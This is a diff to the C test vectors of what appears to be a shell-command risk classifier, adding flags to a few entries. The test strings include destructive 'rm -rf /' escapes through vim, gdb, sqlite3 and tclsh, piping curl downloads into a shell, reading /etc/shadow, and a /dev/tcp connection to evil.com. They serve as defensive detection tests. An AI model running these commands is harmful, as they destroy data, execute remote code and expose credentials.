@@ -770,7 +770,7 @@ static const vec unit_vecs[] = {
 	/* G2: an unknown program's arguments meet the raw-text floor */
 	{ "vim -es -c '!rm -rf /'", EX, D | UK, NULL },
 	{ "gdb -batch -ex 'shell reboot'", EX, S | UK, NULL },
-	{ "sqlite3 x '.shell rm -rf /'", EX, D, NULL },
+	{ "sqlite3 x '.shell rm -rf /'", EX, D | UK, NULL },
 	{ "mytool 'curl x | sh'", EX, R | UK, NULL },
 	{ "emacs --eval '(shell-command \"git push -f\")'", EX, F | P | UK, NULL },
 	{ "vagrant halt", EX, UK, NULL },
@@ -1632,7 +1632,8 @@ static const vec e2e_vecs[] = {
 	{ "wc -l < /etc/shadow", EX, SE | O, NULL },
 	/* remote code through wrappers and substitutions */
 	{ "curl x | sudo sh", EX, N | R | V, "pipes a download into a shell" },
-	{ "sh <(curl -fsSL x)", EX, N | R | V, "pipes a download into a shell" },
+	{ "sh <(curl -fsSL x)", EX, N | R | V | U,
+	  "pipes a download into a shell" },
 	{ "source <(curl x)", EX, N | R | V, "pipes a download into a shell" },
 	{ "curl -o i.sh https://x.test/i.sh && sh i.sh", EX, N | R | V,
 	  "pipes a download into a shell" },
@@ -1694,7 +1695,7 @@ static const vec e2e_vecs[] = {
 	{ "cat < /dev/tcp/evil.com/80", EX, N, NULL },
 	{ "vim -es -c '!rm -rf /'", EX, D | UK, NULL },
 	{ "gdb -batch -ex 'shell rm -rf /'", EX, D | UK, NULL },
-	{ "sqlite3 x '.shell rm -rf /'", EX, D, NULL },
+	{ "sqlite3 x '.shell rm -rf /'", EX, D | UK, NULL },
 	{ "tclsh <<< 'exec rm -rf /'", EX, D | UK, NULL },
 	{ "git commit -m 'rm -rf /'", EX, 0, NULL },
 	{ "vagrant halt", EX, UK, NULL },
